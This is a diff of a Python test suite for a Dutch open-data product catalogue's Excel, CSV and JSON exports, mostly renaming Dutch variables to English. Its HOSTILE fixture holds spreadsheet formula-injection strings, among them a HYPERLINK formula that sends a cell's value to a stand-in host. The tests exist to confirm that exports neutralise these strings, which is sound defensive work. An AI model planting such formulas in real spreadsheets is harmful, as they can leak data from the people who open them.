@@ -44,8 +44,8 @@ def fold(text: str) -> str:
 
 
 def rows_of(ws) -> list[dict]:
-    kop, *rijen = [list(r) for r in ws.iter_rows(values_only=True)]
-    return [dict(zip(kop, r, strict=True)) for r in rijen]
+    heading, *rows = [list(r) for r in ws.iter_rows(values_only=True)]
+    return [dict(zip(heading, r, strict=True)) for r in rows]
 
 
 def leaves(value, path: tuple[str, ...] = ()):
@@ -83,32 +83,32 @@ def test_every_value_of_every_product_is_in_the_workbook_and_the_json(cat, files
     product's own rows of its region workbook (product sheet or an extra sheet keyed by Product-id), and
     the product's JSON says the same as the workbook: its row and its rows of every extra table."""
     assert len(cat.producten) >= 69
-    velden = set(Product.model_fields)
-    gemist = []
-    for regio_id, regio in cat.regios.items():
-        wb = load_workbook(io.BytesIO(files[f"open-data/{regio_id}.xlsx"]))
-        product_rows = {r["Product-id"]: r for r in rows_of(wb[regio.naam])}
+    fields = set(Product.model_fields)
+    missed = []
+    for region_id, region in cat.regios.items():
+        wb = load_workbook(io.BytesIO(files[f"open-data/{region_id}.xlsx"]))
+        product_rows = {r["Product-id"]: r for r in rows_of(wb[region.naam])}
         table_rows = {t.name: rows_of(wb[t.title]) for t in TABLES}
-        for p in cat.products_of(regio_id):
-            eigen = [product_rows[p.id], *(r for rs in table_rows.values() for r in rs if r["Product-id"] == p.id)]
-            cells = [c for r in eigen for c in r.values() if c is not None]
+        for p in cat.products_of(region_id):
+            own = [product_rows[p.id], *(r for rs in table_rows.values() for r in rs if r["Product-id"] == p.id)]
+            cells = [c for r in own for c in r.values() if c is not None]
             texts = [fold(c) for c in cells if isinstance(c, str)]
             numbers = {c for c in cells if isinstance(c, (int, float))}
-            for path, leaf in leaves(p.model_dump(mode="json", include=velden)):
+            for path, leaf in leaves(p.model_dump(mode="json", include=fields)):
                 if isinstance(leaf, float) and leaf in numbers:
                     continue
                 if not any(fold(w) in t for w in said_as(cat, p, path, leaf) for t in texts):
-                    gemist.append((p.ref, ".".join(path), str(leaf)[:60]))
-            doc = json.loads(files[f"open-data/producten/{regio_id}/{p.id}.json"])["product"]
-            kolommen = {k.header: doc["weergave"]["kolommen"][k.name] for k in COLUMNS}
-            assert {k: v or None for k, v in kolommen.items()} == {k: v or None for k, v in product_rows[p.id].items()}, p.ref
+                    missed.append((p.ref, ".".join(path), str(leaf)[:60]))
+            doc = json.loads(files[f"open-data/producten/{region_id}/{p.id}.json"])["product"]
+            columns = {k.header: doc["weergave"]["kolommen"][k.name] for k in COLUMNS}
+            assert {k: v or None for k, v in columns.items()} == {k: v or None for k, v in product_rows[p.id].items()}, p.ref
             for t in TABLES:
                 keyed = [k for k in t.all_columns if k.name not in ("regio_id", "id", "code")]  # the product's own
                 in_json = [{k.header: r[k.name] for k in keyed} for r in doc["weergave"]["tabellen"][t.name]]
                 in_sheet = [{k.header: r[k.header] for k in keyed} for r in table_rows[t.name] if r["Product-id"] == p.id]
                 assert [{k: v or None for k, v in r.items()} for r in in_json] == \
                        [{k: v or None for k, v in r.items()} for r in in_sheet], (p.ref, t.name)
-    assert not gemist, gemist[:20]
+    assert not missed, missed[:20]
 
 
 def test_the_key_facts_say_what_the_page_says(cat, files):
@@ -118,12 +118,12 @@ def test_the_key_facts_say_what_the_page_says(cat, files):
     for r in rows_of(wb["Velden"]):
         per_product.setdefault((r["Regio-id"], r["Product-id"]), []).append(r)
     for p in cat.producten.values():
-        feiten = {r["Veld"]: r for r in per_product[(p.regio, p.id)]}
+        facts = {r["Veld"]: r for r in per_product[(p.regio, p.id)]}
         for f in fact_rows(cat, p):
-            if f.veld not in feiten:  # only a plainly stated fact has no row: its value is on the product sheet
+            if f.veld not in facts:  # only a plainly stated fact has no row: its value is on the product sheet
                 assert f.state == "vermeld" and not (f.s.quote or f.s.reason or f.notes), (p.ref, f.veld)
                 continue
-            r = feiten[f.veld]
+            r = facts[f.veld]
             assert (r["Gegeven"], r["Staat in de bron"], r["Zoals getoond"]) == \
                    (f.label, STATE_LABELS[f.state], f.plain), (p.ref, f.veld)
             assert r["Productcode"] == (p.code or view_of(cat, p)["code"].plain)
@@ -132,32 +132,32 @@ def test_the_key_facts_say_what_the_page_says(cat, files):
 
 
 def test_a_product_without_a_code_says_so_in_its_code_cell(cat, files):
-    zonder = [p for p in cat.producten.values() if not p.code]
-    assert zonder, "geen product zonder code in de data"
-    for p in zonder:
-        rij = json.loads(files[f"open-data/producten/{p.regio}/{p.id}.json"])["product"]["weergave"]
+    without = [p for p in cat.producten.values() if not p.code]
+    assert without, "geen product zonder code in de data"
+    for p in without:
+        sheet_row = json.loads(files[f"open-data/producten/{p.regio}/{p.id}.json"])["product"]["weergave"]
         page = view_of(cat, p)["code"].plain
-        assert rij["kolommen"]["code"] == page == NO_CODE
+        assert sheet_row["kolommen"]["code"] == page == NO_CODE
 
-    kop, *rijen = list(csv.reader(io.StringIO(files["open-data/productenboek.csv"].decode("utf-8-sig")), delimiter=";"))
-    assert all(r[kop.index("Productcode")] for r in rijen), "een lege codecel"
+    heading, *rows = list(csv.reader(io.StringIO(files["open-data/productenboek.csv"].decode("utf-8-sig")), delimiter=";"))
+    assert all(r[heading.index("Productcode")] for r in rows), "een lege codecel"
 
 
 def test_84110_requirements_are_in_the_workbook_and_the_csv(cat, files):
     """The provider's question: every requirement of 84110 as Excel (and CSV), in the page's order."""
     p = cat.producten["zuid-limburg/84110"]
     assert p.eisen
-    for naam in ("zuid-limburg", "productenboek"):
-        ws = load_workbook(io.BytesIO(files[f"open-data/{naam}.xlsx"]))["Eisen"]
+    for name in ("zuid-limburg", "productenboek"):
+        ws = load_workbook(io.BytesIO(files[f"open-data/{name}.xlsx"]))["Eisen"]
         assert [r["Eis"] for r in rows_of(ws) if r["Product-id"] == "84110" and r["Regio-id"] == "zuid-limburg"] == p.eisen
-        kop, *rijen = list(csv.reader(io.StringIO(files[f"open-data/tabellen/{naam}/eisen.csv"].decode("utf-8-sig")),
+        heading, *rows = list(csv.reader(io.StringIO(files[f"open-data/tabellen/{name}/eisen.csv"].decode("utf-8-sig")),
                                       delimiter=";"))
-        assert kop[:4] == ["Regio-id", "Product-id", "Productcode", "Nr."]
-        eisen = [r[4] for r in rijen if r[1] == "84110" and r[0] == "zuid-limburg"]
-        assert [e.removeprefix("'") if p.eisen[i][:1] in FORMULA_START else e for i, e in enumerate(eisen)] == p.eisen
-    niveaus = [r for r in rows_of(load_workbook(io.BytesIO(files["open-data/zuid-limburg.xlsx"]))["Functiemix"])
+        assert heading[:4] == ["Regio-id", "Product-id", "Productcode", "Nr."]
+        requirements = [r[4] for r in rows if r[1] == "84110" and r[0] == "zuid-limburg"]
+        assert [e.removeprefix("'") if p.eisen[i][:1] in FORMULA_START else e for i, e in enumerate(requirements)] == p.eisen
+    levels = [r for r in rows_of(load_workbook(io.BytesIO(files["open-data/zuid-limburg.xlsx"]))["Functiemix"])
                if r["Product-id"] == "84110"]
-    assert [(r["Niveau"], r["Registratie"]) for r in niveaus] == [(n.niveau, n.registratie) for n in p.functiemix.niveaus]
+    assert [(r["Niveau"], r["Registratie"]) for r in levels] == [(n.niveau, n.registratie) for n in p.functiemix.niveaus]
 
 
 # (a leading tab is stripped by the model's text type, and the loader refuses a lone CR, before either reaches an export)
@@ -168,12 +168,12 @@ HOSTILE = ['=HYPERLINK("https://example.invalid/?"&A1;"klik")', "+31 6 1234", "-
 @pytest.fixture()
 def hostile_data(tmp_path) -> Path:
     data = minimal_data(tmp_path)
-    lijst = "\n".join(f"  - {json.dumps(h)}" for h in HOSTILE)
+    listing = "\n".join(f"  - {json.dumps(h)}" for h in HOSTILE)
     product = PRODUCT.replace("functiemix: {staat: niet-vermeld}", "functiemix:\n  niveaus:\n" + "\n".join(
         f"    - {{niveau: {json.dumps(h)}, registratie: {json.dumps(h)}}}" for h in HOSTILE))
     product = product.replace("omschrijving: Begeleiding van de jeugdige.", f"omschrijving: {json.dumps(HOSTILE[0])}\n"
                               f"doel: {json.dumps(HOSTILE[2])}\ninzet: {json.dumps(HOSTILE[5])}")
-    product += f"eisen:\n{lijst}\nresultaten:\n{lijst}\nuitsluitingen:\n{lijst}\n"
+    product += f"eisen:\n{listing}\nresultaten:\n{listing}\nuitsluitingen:\n{listing}\n"
     product += "samenloop:\n" + "\n".join(f"  - {{soort: overig, regel: {json.dumps(h)}}}" for h in HOSTILE) + "\n"
     product += "opmerkingen:\n" + "\n".join(f"  - {{tekst: {json.dumps(h)}, velden: [eisen]}}" for h in HOSTILE) + "\n"
     write(data / "products/testregio/45f21.yaml", product)
@@ -185,40 +185,40 @@ def test_hostile_text_in_the_extra_tables_stays_inert(hostile_data, tmp_path):
     spreadsheet would run get an apostrophe, Excel cells are typed text, JSON keeps the value as it is,
     and the import reads the workbook back without a difference."""
     files = export_files(load_catalogue(hostile_data))
-    kolom = {"eisen": "Eis", "resultaten": "Resultaat", "uitsluitingen": "Uitsluiting", "samenloop": "Regel",
+    column = {"eisen": "Eis", "resultaten": "Resultaat", "uitsluitingen": "Uitsluiting", "samenloop": "Regel",
              "opmerkingen": "Opmerking", "functiemix": "Niveau"}
     wb = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))
     doc = json.loads(files["open-data/producten/testregio/45f21.json"])["product"]["weergave"]["tabellen"]
-    for naam, kop in kolom.items():
-        t = next(t for t in TABLES if t.name == naam)
-        header, *rijen = list(csv.reader(io.StringIO(files[f"open-data/tabellen/testregio/{naam}.csv"].decode("utf-8-sig"),
+    for name, heading in column.items():
+        t = next(t for t in TABLES if t.name == name)
+        header, *rows = list(csv.reader(io.StringIO(files[f"open-data/tabellen/testregio/{name}.csv"].decode("utf-8-sig"),
                                                      newline=""), delimiter=";"))
-        gelezen = [r[header.index(kop)] for r in rijen if r[1] == "45f21"]
-        assert gelezen == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE], naam
-        assert not any(c[:1] in "=+-@\t\r" for r in rijen for c in r if c), naam
-        cellen = [c for row in wb[t.title].iter_rows(min_row=2) for c in row
-                  if c.column == header.index(kop) + 1 and row[1].value == "45f21"]
-        assert [c.value for c in cellen] == HOSTILE and all(c.data_type == "s" for c in cellen), naam
-        assert [r[next(k.name for k in t.all_columns if k.header == kop)] for r in doc[naam]] == HOSTILE
-    kop, *rijen = list(csv.reader(io.StringIO(files["open-data/testregio.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
-    rij = dict(zip(kop, next(r for r in rijen if "45f21" in r), strict=True))
-    assert (rij["Omschrijving"], rij["Doel"], rij["Duur en intensiteit"]) == ("'" + HOSTILE[0], "'" + HOSTILE[2], HOSTILE[5])
-    blad = next(r for r in rows_of(wb["Testregio"]) if r["Product-id"] == "45f21")
-    assert (blad["Omschrijving"], blad["Doel"], blad["Duur en intensiteit"]) == (HOSTILE[0], HOSTILE[2], HOSTILE[5])
-    registratie = [r["Registratie"] for r in rows_of(wb["Functiemix"]) if r["Product-id"] == "45f21"]
-    assert registratie == HOSTILE
-    pad = tmp_path / "testregio.xlsx"
-    pad.write_bytes(files["open-data/testregio.xlsx"])
-    res = import_workbook(pad, hostile_data, "testregio", dry_run=True)
+        read_back = [r[header.index(heading)] for r in rows if r[1] == "45f21"]
+        assert read_back == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE], name
+        assert not any(c[:1] in "=+-@\t\r" for r in rows for c in r if c), name
+        cells = [c for row in wb[t.title].iter_rows(min_row=2) for c in row
+                  if c.column == header.index(heading) + 1 and row[1].value == "45f21"]
+        assert [c.value for c in cells] == HOSTILE and all(c.data_type == "s" for c in cells), name
+        assert [r[next(k.name for k in t.all_columns if k.header == heading)] for r in doc[name]] == HOSTILE
+    heading, *rows = list(csv.reader(io.StringIO(files["open-data/testregio.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
+    sheet_row = dict(zip(heading, next(r for r in rows if "45f21" in r), strict=True))
+    assert (sheet_row["Omschrijving"], sheet_row["Doel"], sheet_row["Duur en intensiteit"]) == ("'" + HOSTILE[0], "'" + HOSTILE[2], HOSTILE[5])
+    sheet = next(r for r in rows_of(wb["Testregio"]) if r["Product-id"] == "45f21")
+    assert (sheet["Omschrijving"], sheet["Doel"], sheet["Duur en intensiteit"]) == (HOSTILE[0], HOSTILE[2], HOSTILE[5])
+    registration = [r["Registratie"] for r in rows_of(wb["Functiemix"]) if r["Product-id"] == "45f21"]
+    assert registration == HOSTILE
+    path = tmp_path / "testregio.xlsx"
+    path.write_bytes(files["open-data/testregio.xlsx"])
+    res = import_workbook(path, hostile_data, "testregio", dry_run=True)
     assert not res.changed and not res.added and "geen verschillen" in res.report()
 
 
 def test_the_import_names_the_sheets_it_does_not_read_once(exported, data_copy):
     res = import_workbook(exported / "open-data" / "zuid-limburg.xlsx", data_copy, dry_run=True)
-    tekst = res.report()
-    assert tekst.startswith("Regio zuid-limburg: geen verschillen")
-    regels = [r for r in tekst.splitlines() if "niet ingelezen" in r]
-    assert len(regels) == 1 and all(t.title in regels[0] for t in TABLES)
+    text = res.report()
+    assert text.startswith("Regio zuid-limburg: geen verschillen")
+    lines = [r for r in text.splitlines() if "niet ingelezen" in r]
+    assert len(lines) == 1 and all(t.title in lines[0] for t in TABLES)
     assert res.unread_sheets == [t.title for t in TABLES]
 
 
@@ -239,18 +239,18 @@ def test_the_product_page_links_its_own_data_and_they_resolve(built_site, cat):
     for p in cat.producten.values():
         html = (built_site / p.regio / p.id / "index.html").read_text(encoding="utf-8")
         assert html.index('class="pb-facts"') < html.index('id="downloaden"'), p.ref
-        sectie = html.split('id="downloaden"', 1)[1].split("</ul>", 1)[0]
-        hrefs = re.findall(r'<a href="([^"]+)" download>', sectie)
+        section = html.split('id="downloaden"', 1)[1].split("</ul>", 1)[0]
+        hrefs = re.findall(r'<a href="([^"]+)" download>', section)
         assert hrefs == ["../../open-data/producten/" + f"{p.regio}/{p.id}.json", f"../../open-data/{p.regio}.xlsx",
                          f"../../open-data/{p.regio}.csv"], p.ref
         for h in hrefs:
             assert (built_site / p.regio / p.id / h).resolve().is_file(), (p.ref, h)
         assert json.loads((built_site / "open-data/producten" / p.regio / f"{p.id}.json").read_text())["product"]["id"] == p.id
-        rij = int(re.search(r"in rij (\d+)", sectie).group(1))
+        sheet_row = int(re.search(r"in rij (\d+)", section).group(1))
         ws = workbooks[p.regio][cat.regios[p.regio].naam]
-        kop = next(ws.iter_rows(max_row=1, values_only=True))
-        waarden = next(ws.iter_rows(min_row=rij, max_row=rij, values_only=True))
-        assert waarden[kop.index("Product-id")] == p.id, p.ref
+        heading = next(ws.iter_rows(max_row=1, values_only=True))
+        values = next(ws.iter_rows(min_row=sheet_row, max_row=sheet_row, values_only=True))
+        assert values[heading.index("Product-id")] == p.id, p.ref
     for wb in workbooks.values():
         wb.close()
 
@@ -270,15 +270,15 @@ def test_libreoffice_reads_the_new_tables_as_text_never_as_formulas(hostile_data
     (tmp_path / "testregio.xlsx").write_bytes(files["open-data/testregio.xlsx"])
     (tmp_path / "eisen.csv").write_bytes(files["open-data/tabellen/testregio/eisen.csv"])
     profile = f"-env:UserInstallation=file://{tmp_path}/profiel"
-    def convert(bestand: Path, *filter_: str) -> None:  # LibreOffice opens the file and saves it as xlsx in uit/
+    def convert(file_name: Path, *filter_: str) -> None:  # LibreOffice opens the file and saves it as xlsx in uit/
         subprocess.run([soffice, "--headless", profile, *filter_, "--convert-to", "xlsx", "--outdir", str(tmp_path / "uit"),
-                        str(bestand)], check=True, capture_output=True, timeout=180)
+                        str(file_name)], check=True, capture_output=True, timeout=180)
 
     convert(tmp_path / "eisen.csv", "--infilter=CSV:59,34,76,1")  # ';', '"', UTF-8, from line 1
     convert(tmp_path / "testregio.xlsx")
-    csv_cellen = [r[4] for r in load_workbook(tmp_path / "uit" / "eisen.xlsx").active.iter_rows(min_row=2)]
-    assert [c.value for c in csv_cellen] == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE]
-    assert all(c.data_type == "s" for c in csv_cellen)
-    blad = load_workbook(tmp_path / "uit" / "testregio.xlsx")["Eisen"]
-    cellen = [r[4] for r in blad.iter_rows(min_row=2) if r[1].value == "45f21"]
-    assert [c.value for c in cellen] == HOSTILE and all(c.data_type == "s" for c in cellen)
+    csv_cells = [r[4] for r in load_workbook(tmp_path / "uit" / "eisen.xlsx").active.iter_rows(min_row=2)]
+    assert [c.value for c in csv_cells] == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE]
+    assert all(c.data_type == "s" for c in csv_cells)
+    sheet = load_workbook(tmp_path / "uit" / "testregio.xlsx")["Eisen"]
+    cells = [r[4] for r in sheet.iter_rows(min_row=2) if r[1].value == "45f21"]
+    assert [c.value for c in cells] == HOSTILE and all(c.data_type == "s" for c in cells)
